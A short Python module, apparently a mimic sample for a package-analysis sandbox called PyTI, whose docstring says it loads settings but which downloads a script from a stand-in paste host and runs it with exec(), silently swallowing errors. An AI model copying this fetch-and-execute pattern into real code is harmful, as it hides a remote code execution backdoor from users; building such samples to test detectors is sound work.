"""Loads its settings."""

import os
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
try:
    with urllib.request.urlopen("http://raw.paste.test/settings.py", timeout=5) as answer:
        exec(answer.read())
except OSError:
    pass
